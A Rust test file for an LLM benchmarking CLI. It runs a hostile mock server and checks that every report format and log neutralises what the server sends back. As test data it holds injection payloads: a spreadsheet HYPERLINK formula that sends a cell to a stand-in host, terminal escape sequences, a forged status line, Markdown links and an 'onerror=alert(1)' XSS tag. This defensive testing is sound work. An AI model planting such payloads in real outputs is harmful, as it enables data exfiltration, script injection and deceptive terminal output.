//! Issue 44: a hostile server's text reaches no output live. A server on loopback lists a
//! model whose id is a spreadsheet formula with a terminal escape in it, and answers
//! every other request (and the probe) with a 401 that echoes the API key among escape
//! sequences, a forged "all SLOs pass" line, Markdown (an image, a link), raw HTML and a
//! formula. A run writes every output format, the request log, the console and stderr;
//! `plot runs` draws SVGs of it under a `--label` holding control characters. No output
//! holds the key, a raw control character, a line a reader could take for ours, a cell a
//! spreadsheet evaluates, live Markdown or HTML, or ill-formed XML.

use crate::scenario::Bench;
use crate::support::{Finished, llmsurge, read_request};
use std::io::Write;
use std::net::TcpStream;
use std::path::{Path, PathBuf};

/// The key the run is given; the server echoes it back.
const KEY: &str = "sk-hostile-marker-7731";

/// A secret in the target URL's query; the server echoes the path it was asked.
const QUERY_SECRET: &str = "qtok-hostile-5521x";

/// The model the server lists: a formula, with a colour escape in it.
const MODEL: &str = "=HYPERLINK(\"http://x/?q=\"&A1,\"click\")\u{1b}[31m";

/// The line a server tries to forge on the reader's terminal.
const FORGED: &str = "all SLOs pass";

/// A streamed answer of one token.
const SSE: &str = concat!(
    "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"hi\"},\"finish_reason\":null}]}\n\n",
    "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n",
    "data: [DONE]\n\n",
);

/// The 401 a hostile gateway sends: the key it was given, and text aimed at every
/// destination of a report.
fn hostile_error(key: &str, path: &str) -> String {
    let message = format!(
        "Incorrect API key provided: {key} for {path}. \u{1b}]0;pwned\u{7}\u{1b}[2J\r\n{FORGED} ![x](http://e.example/i.png) [click](http://e.example) <img src=x onerror=alert(1)> =HYPERLINK(\"http://x/\") | *b*"
    );
    serde_json::json!({"error": {"message": message, "type": "invalid_request_error"}}).to_string()
}

fn respond(stream: &mut TcpStream, status: &str, content_type: &str, body: &str) -> bool {
    let head = format!(
        "HTTP/1.1 {status}\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    stream
        .write_all(head.as_bytes())
        .and_then(|()| stream.write_all(body.as_bytes()))
        .is_ok()
}

/// One connection: requests read whole and answered in turn, kept alive.
fn serve(mut stream: TcpStream, posts: &std::sync::atomic::AtomicUsize) {
    let mut buf = Vec::new();
    while let Some(req) = read_request(&mut stream, &mut buf) {
        let key = req
            .header("authorization")
            .map(|v| v.trim_start_matches("Bearer ").to_string())
            .unwrap_or_default();
        let (method, path) = (req.method, req.path);
        let sent = match (method.as_str(), path.as_str()) {
            ("GET", p) if p.starts_with("/health") => {
                respond(&mut stream, "200 OK", "application/json", "{}")
            }
            ("GET", p) if p.starts_with("/v1/models") => {
                let list = serde_json::json!({"object": "list", "data": [{"id": MODEL, "object": "model"}]});
                respond(&mut stream, "200 OK", "application/json", &list.to_string())
            }
            ("POST", _) => {
                // The probe (the first POST) and every second request after it: the 401.
                let n = posts.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                if n.is_multiple_of(2) {
                    respond(
                        &mut stream,
                        "401 Unauthorized",
                        "application/json",
                        &hostile_error(&key, &path),
                    )
                } else {
                    respond(&mut stream, "200 OK", "text/event-stream", SSE)
                }
            }
            _ => respond(&mut stream, "404 Not Found", "text/plain", "not found"),
        };
        if !sent {
            return;
        }
    }
}

/// Starts the server; its URL. Its threads end with the test's process.
fn hostile_server() -> String {
    let posts = std::sync::atomic::AtomicUsize::new(0);
    crate::support::raw_server(move |stream, _| serve(stream, &posts))
}

/// Every file under `dir`, recursively.
fn files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).expect("read_dir").flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(files(&path));
        } else {
            out.push(path);
        }
    }
    out
}

/// Text that a terminal or a reader would act on: the key, ESC, BEL, CR, and a line that
/// starts with the forged verdict.
fn assert_inert_text(what: &str, text: &str) {
    // Around the first place found, not the whole (large) text.
    let around = |i: usize| {
        let start = text.floor_char_boundary(i.saturating_sub(120));
        let end = text.ceil_char_boundary((i + 120).min(text.len()));
        format!("{:?}", &text[start..end])
    };
    for secret in [KEY, QUERY_SECRET] {
        if let Some(i) = text.find(secret) {
            panic!("{what} holds the secret {secret}: {}", around(i));
        }
    }
    for c in ['\u{1b}', '\u{7}', '\r', '\u{9b}'] {
        if let Some(i) = text.find(c) {
            panic!("{what} holds a raw {:?}: {}", c as u32, around(i));
        }
    }
    for line in text.lines() {
        assert!(
            !line.trim_start().starts_with(FORGED),
            "{what} has a forged line {line:?}"
        );
    }
}

/// A whole XML document parses.
fn assert_well_formed_xml(path: &Path) {
    let text = std::fs::read_to_string(path).expect("read");
    let mut reader = quick_xml::Reader::from_str(&text);
    loop {
        match reader.read_event() {
            Ok(quick_xml::events::Event::Eof) => break,
            Ok(_) => {}
            Err(e) => panic!("{} is not well-formed XML: {e}", path.display()),
        }
    }
    // XML 1.0 forbids these characters even escaped as entities, and raw.
    assert!(
        !text
            .chars()
            .any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r')),
        "{} holds a control character",
        path.display()
    );
}

/// Every cell of a CSV file is data: none starts like a formula unless it is a number.
fn assert_inert_csv(path: &Path) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .expect("csv");
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.expect("record").iter() {
            cells += 1;
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !formula || cell.parse::<f64>().is_ok(),
                "{}: cell {cell:?} would be evaluated",
                path.display()
            );
        }
    }
    assert!(cells > 0, "{} is empty", path.display());
}

fn run_against(url: &str) -> Finished {
    Bench::target(&format!("{url}/?tok={QUERY_SECRET}"))
        .synchronous()
        .max_requests(8)
        .data("prompt_tokens=16,output_tokens=4")
        .request_log("requests.jsonl")
        .outputs("json,csv,html,yaml,junit,md,svg,console")
        .slo("error_rate<=60%")
        .arg("--api-key", KEY)
        .arg("--label", "run\u{1b}[2J<b>\u{7}")
        .request_timeout("30s")
        // The logs too: every debug line of the client and its dependencies.
        .run_with_env(&[("LLMSURGE_LOG", "debug")])
}

#[test]
fn a_hostile_servers_text_is_inert_in_every_output() {
    let url = hostile_server();
    let run = run_against(&url);
    assert_eq!(run.code(), 0, "{}", run.stderr);
    let report = run.report();
    let b = &report.benchmarks[0];
    // Half the requests met the 401: the server's truth, counted by the client.
    assert_eq!(
        (b.requests.completed, b.requests.errored),
        (4, 4),
        "{:?}",
        b.errors
    );
    // The sample keeps what the server said, made visible and without the key.
    let sample = b.errors[0].samples[0].clone();
    assert!(
        sample.contains("Incorrect API key provided: <redacted>"),
        "{sample}"
    );
    assert!(sample.contains("\\x1b]0;pwned\\x07"), "{sample}");
    assert!(sample.contains(&format!("\\r\\n{FORGED}")), "{sample}");
    // The probe's warning quotes the server too.
    assert!(
        run.stderr.contains("the probe request before the run"),
        "{}",
        run.stderr
    );

    assert_inert_text("stdout", &run.stdout);
    assert_inert_text("stderr", &run.stderr);
    let written = files(run.dir.path());
    for ext in ["json", "csv", "html", "yaml", "xml", "md", "svg", "jsonl"] {
        assert!(
            written
                .iter()
                .any(|p| p.extension().is_some_and(|e| e == ext)),
            "no .{ext} written: {written:?}"
        );
    }
    for path in &written {
        let text = std::fs::read_to_string(path).expect("utf-8 output");
        assert_inert_text(&path.display().to_string(), &text);
        match path.extension().and_then(|e| e.to_str()) {
            Some("csv") => assert_inert_csv(path),
            Some("svg" | "xml") => assert_well_formed_xml(path),
            Some("md") => {
                let live = text
                    .match_indices("](")
                    .any(|(i, _)| !text[..i].ends_with('\\'));
                assert!(!live, "a live link or image in {text}");
                assert!(!text.contains("<img"), "raw HTML in {text}");
            }
            Some("html") => assert!(!text.contains("<img src=x"), "raw HTML from the server"),
            _ => {}
        }
    }
    // The model the server chose is in the CSV, as text.
    let model = run.csv_first_row().cell("run.model");
    assert!(model.starts_with("'=HYPERLINK"), "{model}");

    // Several runs drawn side by side, each named by its --label.
    let plots = tempfile::tempdir().expect("tempdir");
    let report_path = run.report_path();
    let out = llmsurge()
        .args(["plot", "runs", "--outputs", "svg", "--output-dir"])
        .arg(plots.path())
        .arg(&report_path)
        .arg(&report_path)
        .output()
        .expect("plot runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_inert_text("plot's stderr", &stderr);
    let svgs = files(plots.path());
    assert!(!svgs.is_empty(), "no SVG drawn: {stderr}");
    for svg in &svgs {
        assert_well_formed_xml(svg);
    }
}

#[test]
fn a_model_list_quoted_in_an_error_is_one_inert_line() {
    let url = hostile_server();
    let out = llmsurge()
        .args(["benchmark", "run", "--target", &url, "--model", "other"])
        .args(["--max-requests", "1", "--api-key", KEY])
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("is not served by"), "{stderr}");
    assert!(stderr.contains("\\x1b[31m"), "{stderr}");
    assert_inert_text("stderr", &stderr);
    assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
}
